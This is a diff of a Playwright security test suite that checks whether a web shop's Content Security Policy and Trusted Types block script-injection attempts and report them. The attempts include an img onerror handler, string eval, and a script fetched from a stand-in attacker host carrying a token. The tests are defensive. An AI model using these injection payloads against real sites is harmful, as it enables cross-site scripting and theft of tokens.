@@ -99,7 +99,7 @@ async function settled(page: Page) {
 
 /** Opens every choice of the screen that can be opened, and leaves it as it was. */
 async function openChoices(page: Page) {
-  const choices = page.locator('button[aria-haspopup="listbox"]:visible')
+  const choices = page.locator('button[aria-haspopup="listbox"]:enabled:visible')
   const count = Math.min(await choices.count(), 4)
   for (let i = 0; i < count; i++) {
     await choices.nth(i).click()
@@ -202,42 +202,45 @@ test('styles that libraries set are in the policy by their hashes, on a phone to
     getComputedStyle(document.querySelector('[data-react-aria-pressable]')!).touchAction,
     getComputedStyle(document.body).overscrollBehaviorY,
   ])
-  expect(applied).toEqual(['pan-x pan-y pinch-zoom', 'contain'])
+  expect(applied).toEqual(['manipulation', 'contain']) // How Chromium sums up the first.
   expect(await seen()).toEqual({ forbidden: [], failed: [] })
 })
 
-/** What a hole in the shop would let somebody put into a page; each sets window.pwned if it runs. */
-const attacks: Record<string, [string, () => unknown]> = {
+const sink = 'require-trusted-types-for trusted-types-sink'
+
+/**
+ * What a hole in the shop would let somebody put into a page; each sets window.pwned if it runs.
+ * What refuses it first, and what does on the checkout, which demands no Trusted Types.
+ */
+const attacks: Record<string, [string, () => unknown, string?]> = {
   'an inline script': [
-    'script-src-elem inline',
+    sink,
     () => {
       const script = document.createElement('script')
       script.append('window.pwned = 1')
       document.body.append(script)
     },
+    'script-src-elem inline',
   ],
   'a script of another site': [
-    'script-src-elem https://evil.example',
+    sink,
     () => {
-      const parsed = document.implementation.createHTMLDocument()
-      const script = parsed.createElement('script')
-      script.setAttributeNS(null, 'src', 'https://evil.example/a.js?token=S3CRET')
+      const script = document.createElement('script')
+      script.setAttribute('src', 'https://evil.example/a.js?token=S3CRET')
       document.body.append(script)
     },
+    'script-src-elem https://evil.example',
   ],
   'text as HTML': [
-    'require-trusted-types-for trusted-types-sink',
+    sink,
     () => (document.body.innerHTML = '<img src="x" onerror="window.pwned = 1">'),
   ],
-  'text as a script': [
-    'require-trusted-types-for trusted-types-sink',
-    () => (document.createElement('script').text = 'window.pwned = 1'),
-  ],
+  'text as a script': [sink, () => (document.createElement('script').text = 'window.pwned = 1')],
   'text as an address of a script': [
-    'require-trusted-types-for trusted-types-sink',
+    sink,
     () => (document.createElement('script').src = '/api/fonts'),
   ],
-  'text as code': ['script-src eval', () => setTimeout('window.pwned = 1')],
+  'text as code': [sink, () => setTimeout('window.pwned = 1'), 'script-src eval'],
   'a policy of its own': [
     'trusted-types trusted-types-policy',
     () =>
@@ -246,13 +249,14 @@ const attacks: Record<string, [string, () => unknown]> = {
       ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
   ],
   'a handler in an attribute': [
-    'script-src-attr inline',
+    sink,
     () => {
       const button = document.createElement('button')
       document.body.append(button)
       button.setAttribute('onclick', 'window.pwned = 1')
       button.click()
     },
+    'script-src-attr inline',
   ],
   'a link that is code': [
     'script-src-elem inline',
@@ -310,16 +314,20 @@ const attacks: Record<string, [string, () => unknown]> = {
   ],
 }
 
-for (const [what, [violation, attack]] of Object.entries(attacks)) {
-  test(`${what} is refused and told of`, async ({ page }) => {
+const cases = Object.entries(attacks).flatMap(([what, [violation, attack, onCheckout]]) => [
+  { what, violation, attack, path: '/pages/faq' },
+  ...(onCheckout ? [{ what, violation: onCheckout, attack, path: '/checkout' }] : []),
+])
+for (const { what, violation, attack, path } of cases) {
+  test(`${what} is refused and told of on ${path}`, async ({ page }) => {
     const away: string[] = []
-    page.on('request', (request) => {
-      if (!request.url().startsWith(shop.url) && !request.url().startsWith('data:')) {
-        away.push(request.url())
-      }
+    await page.route('https://evil.example/**', async (route) => {
+      away.push(route.request().url())
+      await route.fulfill({ body: 'window.pwned = 1' })
     })
     const seen = await watch(page)
-    await page.goto(`${shop.url}/pages/faq?token=S3CRET`)
+    await furnish(page, false)
+    await page.goto(`${shop.url}${path}?token=S3CRET`)
     await settled(page)
     const before = reports().length
     await page.evaluate(attack).catch(() => {}) // Trusted Types throw.
@@ -336,7 +344,7 @@ for (const [what, [violation, attack]] of Object.entries(attacks)) {
       expect.objectContaining({
         directive,
         blocked: expect.stringContaining(blocked!),
-        document: `${shop.url}/pages/faq`,
+        document: shop.url + path,
       }),
     )
     expect(shop.log()).not.toContain('S3CRET')
@@ -378,6 +386,12 @@ test.describe('a page of another site', () => {
 
   test('reads nothing and writes nothing', async ({ page }) => {
     const { access } = await signIn()
+    const calls = () =>
+      shop
+        .log()
+        .split('\n')
+        .filter((line) => line.includes('"path":"/api/cart/quote"') && line.includes('"POST"'))
+    const before = calls().length
     await page.goto(evilOrigin())
     const outcomes = await page.evaluate(
       async ({ url, access }) => {
@@ -423,10 +437,7 @@ test.describe('a page of another site', () => {
       shop.url,
     )
     expect(['opaque', 'refused']).toContain(status)
-    const written = shop
-      .log()
-      .split('\n')
-      .filter((line) => line.includes('"path":"/api/cart/quote"') && line.includes('"POST"'))
+    const written = calls().slice(before)
     expect(written.map((line) => JSON.parse(line).status)).toEqual([403])
   })
 
